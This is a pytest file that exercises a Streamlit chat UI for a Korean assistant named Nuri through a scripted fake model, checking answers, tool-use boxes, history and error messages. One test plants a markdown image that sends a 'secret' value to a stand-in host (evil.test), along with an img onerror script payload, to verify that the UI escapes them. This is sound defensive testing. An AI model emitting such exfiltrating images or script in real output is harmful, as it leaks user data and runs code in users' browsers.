"""The Streamlit chat through AppTest, with the scripted fake model seeded into the session."""

from __future__ import annotations

import doctest
from datetime import datetime
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

import ui.chat_parts
import ui.crawl_jobs
import ui.modelfile_edit
import ui.session
import ui.text
from agent.llm.handle import ChatHandle
from agent.threads import ThreadStore
from config import NuriError, Settings
from tests.fakes import ai, fake_handle
from tools import clock

APP = str(Path(__file__).resolve().parents[2] / "ui" / "app.py")


@pytest.fixture(autouse=True)
def frozen_clock(monkeypatch):
    monkeypatch.setattr(clock, "now_kst", lambda: datetime(2026, 11, 24, 9, 30, tzinfo=clock.KST))


def start(handle: ChatHandle | None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=30)
    at.session_state["settings"] = Settings()
    if handle is not None:
        at.session_state["chat_handle"] = handle
    return at.run()


def ask(at: AppTest, question: str) -> AppTest:
    return at.chat_input[0].set_value(question).run()


def test_question_gets_the_streamed_answer_badge_and_sidebar():
    handle = fake_handle(ai("안녕하세요! 누리입니다."))
    at = start(handle)
    assert any(c.value.startswith("예: ") for c in at.caption)  # examples on an empty chat only
    at = ask(at, "안녕?")
    assert not any(c.value.startswith("예: ") for c in at.caption)
    assert not at.exception and not at.error
    user, bot = at.chat_message
    assert (user.name, user.markdown[0].value) == ("user", "안녕?")
    assert bot.name == "assistant" and bot.markdown[0].value == "안녕하세요! 누리입니다."
    assert bot.caption[0].value.startswith("fake · fake-scripted · ctx 4,096 · ")
    assert "fake · fake-scripted" in at.caption[0].value  # the page header names the model too
    side = " ".join(t.value for t in at.sidebar.text)
    assert "백엔드: fake" in side and "fake-scripted" in side and str(Settings().home) in side
    (saved,) = ThreadStore(Settings()).list()  # the exchange is saved as a thread in the data dir
    assert saved.title == "안녕?" and saved.turns == 1 and saved.id == at.session_state["thread_id"]


def test_tool_use_is_shown_in_a_status_box():
    handle = fake_handle(ai("", ("current_time", {})), ai("지금은 오전 9시 30분입니다."))
    at = ask(start(handle), "서울 시각 좀 알려 줄래?")
    assert not at.exception
    bot = at.chat_message[1]
    (box,) = bot.status
    assert box.label == "도구 사용 1회" and box.state == "complete"
    lines = [t.value for t in box.text]
    assert lines[0] == "→ current_time()"
    assert lines[1].startswith("← 현재 서울 시각: 2026년 11월 24일 화요일 오전 9시 30분")
    assert bot.markdown[0].value == "지금은 오전 9시 30분입니다."


def test_history_carries_over_and_new_conversation_clears_it():
    handle = fake_handle(ai("반가워요, 지수 님."), ai("지수 님이에요."))
    at = ask(start(handle), "내 이름은 지수야.")
    at = ask(at, "내 이름이 뭐지?")
    assert [m.name for m in at.chat_message] == ["user", "assistant", "user", "assistant"]
    second_call = handle.model.calls[1]["messages"]
    assert [m.content for m in second_call if m.type in ("human", "ai")] == [
        "내 이름은 지수야.",
        "반가워요, 지수 님.",
        "내 이름이 뭐지?",
    ]
    first_thread = at.session_state["thread_id"]
    at = at.sidebar.button[0].click().run()
    assert len(at.chat_message) == 0 and at.session_state["thread_id"] != first_thread


def test_backend_error_mid_answer_is_one_korean_line():
    at = ask(start(fake_handle(error=ConnectionError("connection refused"))), "안녕")
    assert not at.exception
    (shown,) = at.chat_message[1].error
    assert shown.value.startswith("모델이 답하는 중 오류가 났습니다") and "Traceback" not in shown.value
    assert ThreadStore(Settings()).list() == []  # nothing saved for a turn that failed


def test_no_backend_shows_the_korean_reason(monkeypatch):
    def refuse(settings):
        raise NuriError("내장 모델 파일이 없습니다.", hint="`nuri model prepare`를 실행하세요.")

    monkeypatch.setattr(ui.session, "_shared_handle", lambda key, _settings: refuse(_settings))
    at = start(None)
    assert not at.exception
    assert at.error[0].value == "내장 모델 파일이 없습니다. `nuri model prepare`를 실행하세요."
    assert len(at.chat_input) == 0


def test_model_text_cannot_load_images():
    handle = fake_handle(ai("요약입니다 ![p](http://evil.test/x.png?d=secret) <img src=x onerror=alert(1)>"))
    bot = ask(start(handle), "요약해 줘").chat_message[1]
    assert "![p]" not in bot.markdown[0].value and "!\\[p]" in bot.markdown[0].value


@pytest.mark.parametrize(
    "module",
    [ui.chat_parts, ui.session, ui.text, ui.crawl_jobs, ui.modelfile_edit],
    ids=lambda m: m.__name__,
)
def test_ui_doctests(module):
    result = doctest.testmod(module, optionflags=doctest.ELLIPSIS)
    assert result.attempted > 0 and result.failed == 0


def test_notices_about_malformed_calls_are_shown_and_kept():
    handle = fake_handle(ai("", ("weather", {})), ai("", ("weather", {})), ai("도구 없이 답할게요."))
    at = ask(start(handle), "날씨 어때?")
    bot = at.chat_message[1]
    assert len(bot.warning) == 2 and "weather" in bot.warning[0].value and "도구 없이" in bot.warning[1].value
    assert bot.markdown[0].value == "도구 없이 답할게요." and not bot.status
    at = at.run()  # a rerun draws the same exchange from the transcript
    assert [w.value for w in at.chat_message[1].warning] == [w.value for w in bot.warning]
